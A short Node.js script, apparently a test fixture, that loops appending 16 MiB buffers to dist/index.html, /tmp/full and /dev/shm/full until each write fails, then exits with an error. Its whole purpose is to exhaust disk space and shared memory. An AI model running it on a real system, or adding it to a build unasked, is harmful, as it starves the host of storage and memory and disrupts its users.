import { appendFileSync, mkdirSync } from 'node:fs';
mkdirSync('dist');
for (const place of ['dist/index.html', '/tmp/full', '/dev/shm/full']) {
  try { for (;;) appendFileSync(place, Buffer.alloc(1 << 24)); } catch (error) { console.log(place, error.code); }
}
process.exit(1);
